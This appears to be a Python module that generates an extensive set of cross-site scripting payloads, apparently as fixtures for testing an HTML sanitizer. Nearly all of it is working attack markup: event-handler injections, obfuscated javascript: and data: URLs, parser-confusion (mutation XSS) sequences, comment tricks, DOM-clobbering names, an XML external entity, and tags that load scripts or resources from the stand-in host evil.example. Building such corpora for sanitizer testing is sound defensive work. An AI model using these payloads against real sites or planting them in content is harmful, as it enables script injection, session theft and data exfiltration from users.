"""Hostile markup, written by generators: each piece would run `pwn()` or ask a foreign host somewhere.

The shapes are those that browsers and sanitizers have fallen for: handlers, addresses in disguise, foreign content that
is parsed twice, elements whose text is no text, styles, requests without a click, names that shadow a page's own.
"""

from collections.abc import Iterator
from itertools import product

HOST = "evil.example"
FOREIGN = f"https://{HOST}/x"
RUN = "pwn()"

_HANDLED = (
    *(
        "a",
        "abbr",
        "article",
        "audio",
        "b",
        "blockquote",
        "body",
        "button",
        "canvas",
        "caption",
        "code",
        "dd",
        "details",
    ),
    *("dialog", "div", "dl", "em", "embed", "fieldset", "form", "frameset", "h2", "h4", "html", "i", "iframe", "img"),
    *("input", "isindex", "keygen", "li", "link", "marquee", "math", "meter", "object", "ol", "p", "q", "script"),
    *(
        "select",
        "small",
        "span",
        "strong",
        "sub",
        "svg",
        "table",
        "td",
        "textarea",
        "th",
        "tr",
        "u",
        "ul",
        "video",
        "x-y",
    ),
)
_HANDLERS = (
    *(
        "onload",
        "onerror",
        "onclick",
        "onfocus autofocus tabindex=1 data-x",
        "onmouseover",
        "ontoggle",
        "onanimationend",
    ),
    *(
        "onbegin",
        "onpointerenter",
        "onbeforescriptexecute",
        "oncontentvisibilityautostatechange",
        "onwebkitanimationstart",
    ),
)
_GLUES = (
    " {h}={c}",
    " {h}='{c}'",
    '/{h}="{c}"',
    "\n{h}\t=\n{c}",
    "\x0c{h}={c}",
    " {u}={c}",
    ' x="`"{h}={c}',
    " {h}\x00={c}",
)
_DISGUISES = (
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    "  javascript:{c}",
    "\x01javascript:{c}",
    "java\tscript:{c}",
    "java\nscript:{c}",
    "java\r\nscript:{c}",
    "java&#9;script:{c}",
    "java&Tab;script&colon;{c}",
    "&#106;&#97;vascript:{c}",
    "&#x6A&#x61vascript&#x3A;{c}",
    "&#0000106avascript:{c}",
    "javascript&#00058;{c}",
    "&#14; javascript:{c}",
    "&NewLine;javascript:{c}",
    "\ufeffjavascript:{c}",
    "\u200bjavascript:{c}",
    "ｊavascript:{c}",
    "javascript\u2028:{c}",
    "javascript://%0a{c}",
    "javascript:/*--></title></style>*/{c}",
    "vbscript:{c}",
    "livescript:{c}",
    "mocha:{c}",
    "feed:javascript:{c}",
    "view-source:javascript:{c}",
    "jar:https://evil.example/x!/",
    "data:text/html,<script>{c}</script>",
    "data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{c}'/>",
    "data:,%3Cscript%3E{c}",
    "blob:https://evil.example/x",
    "filesystem:https://evil.example/x",
    "file:///etc/passwd",
    "ftp://evil.example/x",
    "ws://evil.example/x",
    "//evil.example/x",
    "///evil.example/x",
    "\\\\evil.example/x",
    "/\\evil.example/x",
    "\\/evil.example/x",
    "/\t/evil.example/x",
    "\x01//evil.example/x",
    " //evil.example/x",
    "&#47;&#47;evil.example/x",
    "intent://x#Intent;scheme=javascript;end",
)
_ADDRESSED = (
    '<a href="{a}">x</a>',
    "<a href='{a}' target=_blank ping='{a}'>x</a>",
    "<a href={a}>x</a>",
    '<area href="{a}">',
    '<base href="{a}"><p>x',
    '<form action="{a}"><input type=submit></form>',
    '<form id=f></form><button form=f formaction="{a}">x</button>',
    '<iframe src="{a}"></iframe>',
    '<embed src="{a}">',
    '<object data="{a}"></object>',
    '<img src="{a}">',
    '<img srcset="{a} 1x, {a} 2x">',
    '<input type=image src="{a}">',
    '<video src="{a}" poster="{a}" autoplay></video>',
    '<svg><a xlink:href="{a}"><text>x</text></a></svg>',
    '<math href="{a}"><mi>x</mi></math>',
    '<blockquote cite="{a}">x</blockquote>',
    '<table background="{a}"><tr><td background="{a}">x</table>',
    '<meta http-equiv=refresh content="0;url={a}">',
    '<link rel=stylesheet href="{a}">',
)
_FETCHING = (
    "<img src={f}>",
    "<img src=x srcset='{f} 1x'>",
    "<picture><source srcset='{f}'><img></picture>",
    "<audio src={f} autoplay></audio>",
    "<video><source src={f}><track src={f} default></video>",
    "<link rel=prefetch href={f}>",
    "<link rel=preload as=image href={f}>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<link rel=icon href={f}>",
    "<link rel=manifest href={f}>",
    "<script src={f}></script>",
    "<script type=module>import '{f}'</script>",
    "<iframe src={f}></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.pwn()&lt;/script&gt;'></iframe>",
    "<frameset><frame src={f}></frameset>",
    "<object data={f}><param name=movie value={f}></object>",
    "<embed src={f}>",
    "<applet archive={f} code=x></applet>",
    "<input type=image src={f}>",
    "<body background={f}>",
    "<td background={f}>",
    "<bgsound src={f}>",
    "<svg><image href={f} /><use href='{f}#x'/></svg>",
    "<svg><feImage xlink:href={f} /></svg>",
    "<style>@import '{f}';</style>",
    "<style>body{{background:url({f})}}</style>",
    "<p style='background:url({f})'>x</p>",
    "<p style='background:u\\72l({f})'>x</p>",
    "<p style='behavior:url({f});-moz-binding:url({f}#x)'>x</p>",
    "<p style='width:expression(pwn())'>x</p>",
    "<ul style='list-style-image:url(\"{f}\")'><li>x</ul>",
    "<p style='content:image-set(\"{f}\" 1x)'>x</p>",
    "<meta http-equiv=Set-Cookie content='a=b'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<base href={f}><a href=y>x</a>",
    "<portal src={f}></portal>",
    "<fencedframe src={f}></fencedframe>",
    "<esi:include src={f} />",
    "<?xml-stylesheet href={f}?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM '{f}'>]>&y;",
    "<html manifest={f}>",
)
_SCRIPTS = (
    "<script>{c}</script>",
    "<SCRIPT>{c}</SCRIPT>",
    "<script/x>{c}</script>",
    "<script\n>{c}</script\n>",
    "<script\x00>{c}</script>",
    "<script >{c}//",
    "<scr<script>ipt>{c}</scr</script>ipt>",
    "<<script>{c}//<</script>",
    "<script>{c}<!--<script></script>",
    "</p><script>{c}</script>",
    "<script type=text/javascript>{c}</script>",
    "<script type=module>{c}</script>",
    "<script type='importmap'>{{}}</script><script>{c}</script>",
    "<script src=data:,{c}></script>",
    "<svg><script>{c}</script></svg>",
    "<svg><script xlink:href=data:,{c} /></svg>",
    "<math><script>{c}</script></math>",
    "<svg/onload={c}>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:{c} /><text>x</text></a>",
    "<svg><set attributeName=onmouseover to={c}>",
    "<svg><handler type=text/javascript>{c}</handler></svg>",
    "<img src=x onerror={c}>",
    "<img/src=x/onerror={c}>",
    "<img src=x:x onerror={c}//",
    "<image src=x onerror={c}>",
    "<video><source onerror={c}></video>",
    "<audio src=x onerror={c}>",
    "<body onload={c}>",
    "<input autofocus onfocus={c}>",
    "<details open ontoggle={c}><summary>x</summary></details>",
    "<marquee onstart={c}>x</marquee>",
    "<iframe onload={c}></iframe>",
    "<object onerror={c} data=x>",
    "<style onload={c}></style>",
    "<link rel=stylesheet href=data:, onload={c}>",
    "<xss contenteditable autofocus onfocus={c}>x</xss>",
    "<x onclick={c}>x",
    "<dialog open oncancel={c}>x</dialog>",
    "<p popover id=x onbeforetoggle={c}>x</p>",
)
_SWITCHES = (  # elements that change how a parser reads what follows
    *(
        "noscript",
        "noembed",
        "noframes",
        "textarea",
        "title",
        "template",
        "xmp",
        "plaintext",
        "iframe",
        "select",
        "option",
    ),
    *("style", "script", "svg", "math", "svg><desc", "svg><foreignObject", "svg><title", "svg><style", "math><mtext"),
    *(
        "math><annotation-xml encoding=text/html",
        "math><mi><table><mglyph><style",
        "form><math><mtext></form><form><mglyph",
    ),
    *(
        "table><caption><svg",
        "select><template",
        "frameset",
        "listing",
        "button",
        "ruby><rtc",
        "details",
        "object",
        "head",
    ),
)
_INNER = (
    "<img src=x onerror={c}>",
    "</style><img src=x onerror={c}>",
    '<p title="</noscript><img src=x onerror={c}>">',
    "<!--</style><img src=x onerror={c}>-->",
    '<a title="</svg><img src=x onerror={c}>">',
    "<style><!--</style><img src=x onerror={c}>",
    "</title></textarea></xmp></noembed></noframes></iframe><script>{c}</script>",
    "<![CDATA[><img src=x onerror={c}>]]>",
    "<mglyph><malignmark><img src=x onerror={c}>",
    "&lt;img src=x onerror={c}&gt;",
)
_COMMENTS = (
    "<!--><img src=x onerror={c}>-->",
    "<!---><img src=x onerror={c}>-->",
    "<!--!><img src=x onerror={c}>-->",
    "<!-- --!><img src=x onerror={c}>",
    "<!--[if gte IE 4]><script>{c}</script><![endif]-->",
    "<![if true]><script>{c}</script><![endif]>",
    "<!--x--!><script>{c}</script>",
    "<!x><img src=x onerror={c}>",
    "<?x ><img src=x onerror={c}>?>",
    "<%x%><img src=x onerror={c}>",
    "</ x><img src=x onerror={c}>",
    "<![CDATA[<img src=x onerror={c}>]]>",
    "<!DOCTYPE html><script>{c}</script>",
)
_NAMES = (
    "body",
    "cookie",
    "forms",
    "getElementById",
    "location",
    "parentNode",
    "attributes",
    "children",
    "csp",
    "django",
)
_SHADOWS = (
    "<a id={n}>x</a>",
    "<a id={n} name=x href=cid:x>x</a><a id={n}>y</a>",
    "<form name={n}><input name=attributes></form>",
    "<img name={n}>",
    "<iframe name={n} srcdoc=x></iframe>",
    "<p id={n} class={n}>x</p>",
)
_WRAPPED = (  # as it comes from a word processor or a mail program
    "<div>{p}</div>",
    "<p class=MsoNormal style='mso-list:l0 level1 lfo1'><span style='mso-list:Ignore'>·</span>{p}</p>",
    "<b style='font-weight:normal' id=docs-internal-guid-1><p dir=ltr>{p}</p></b>",
    "<font face=x>{p}</font>",
    "<p class=MsoNormal><a href='#_ftn1' name=_ftnref1>[1]</a></p><p><a name=_ftn1 href='#_ftnref1'>[1]</a>{p}</p>",
)


def _by_handler() -> Iterator[str]:
    for (place, tag), (other, handler) in product(enumerate(_HANDLED), enumerate(_HANDLERS)):
        glue = _GLUES[(place + other) % len(_GLUES)].format(h=handler, u=handler.upper(), c=RUN)
        yield f"<{tag}{glue}>x</{tag}>"


def _by_address() -> Iterator[str]:
    for (place, shape), (other, disguise) in product(enumerate(_ADDRESSED), enumerate(_DISGUISES)):
        if place < 2 or (place + other) % 3 == 0:
            yield shape.format(a=disguise.format(c=RUN))


def _by_switch() -> Iterator[str]:
    for switch, inner in product(_SWITCHES, _INNER):
        closed = "".join(f"</{part.split()[0]}>" for part in reversed(switch.split("><")))
        yield f"<{switch}>{inner.format(c=RUN)}{closed}"


def _plain() -> Iterator[str]:
    for shape in (*_SCRIPTS, *_COMMENTS):
        yield shape.format(c=RUN)
    for shape in _FETCHING:
        yield shape.format(f=FOREIGN)
    for shape, name in product(_SHADOWS, _NAMES):
        yield shape.format(n=name)


def _in_allowed_elements() -> Iterator[str]:
    shells = (
        "<p>{p}</p>",
        "<table><tr><td>{p}</td></tr></table>",
        "<ul><li>{p}",
        "<small>{p}</small>",
        "<a href=/x>{p}</a>",
    )
    for shell, shape in product(shells, (*_SCRIPTS[::3], *_COMMENTS[::3])):
        yield shell.format(p=shape.format(c=RUN))


def _from_programs() -> Iterator[str]:
    for place, shape in enumerate((*_SCRIPTS, *_COMMENTS, *_INNER)):
        yield _WRAPPED[place % len(_WRAPPED)].format(p=shape.format(c=RUN))
    for place, shape in enumerate(_FETCHING):
        yield _WRAPPED[place % len(_WRAPPED)].format(p=shape.format(f=FOREIGN))


SOURCES = (_by_handler, _by_address, _by_switch, _plain, _in_allowed_elements, _from_programs)
PAYLOADS = tuple(dict.fromkeys(payload for source in SOURCES for payload in source()))
